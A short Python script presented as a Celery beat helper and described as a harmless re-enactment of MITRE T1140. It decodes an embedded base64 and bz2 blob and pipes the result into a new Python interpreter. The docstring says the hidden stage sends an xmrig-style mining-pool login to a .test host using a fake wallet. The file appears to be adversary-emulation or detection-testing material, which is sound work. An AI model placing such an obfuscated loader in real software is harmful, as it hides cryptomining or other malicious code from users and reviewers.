"""celery-beat-lite (harmless re-enactment of T1140): a url-safe base64 blob is un-base64'd and
bunzip2'd in this process's memory and the result, a Python stage, is fed to `python3 -` on its
stdin through a pipe. The stage opens a stratum connection to pool.hashvault-mirror.test:3333
and sends an xmrig-style login with a fake wallet, reads the answer and hangs up."""

import base64
import bz2
import subprocess
import sys

SCHEDULE = (
    "QlpoOTFBWSZTWXZbsE4AAIDfgEAQUG__ci3Pd-6v_9_aMAEZFhUaCeKD0mmmm0mhtE02oaDINBppiZCqfqZTymyj1PUe"
    "psU9T1AAAAAAGgRTaaRNMQeSGQGIAA0DQNBhKy6yO4ue5oEChB0PPxn4_DSsHYSyoKDEIrOxkNSWQJnkV3BT1ggKm9di"
    "qCEJgoM2RixruEldJBPhlyBlaTffP62SNpUw1Ts5oSgObQREmX4xwmdMYiQI00jnHRVdW0ahgTHt2tCjwX6uk94mm-uW"
    "5-OFygTJTI222F1OU1SSrRJtNkKrYUL0t0KY_IaATQrcVAgVRUuoBbXg03BOWwYYBjnfEQGZRvI4uzEyDxyOXcJgT1pT"
    "KC1qJVDXLxvbcnBTpwIC4RXCoEl2KSAQfzshCQCgLb4i0BJEYhQIFdwFjUIm2JrwRSRBEakmOk5kSBi4RbLh0ql8OmDk"
    "WpYhsB4FO0cHWy41Im1tGtjaMFsc-d7l_i7kinChIOy3YJw="
)


def main() -> int:
    print("beat: loading schedule", flush=True)
    task = bz2.decompress(base64.urlsafe_b64decode(SCHEDULE))
    done = subprocess.run([sys.executable, "-"], input=task, timeout=30)
    print(f"beat: task exited {done.returncode}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
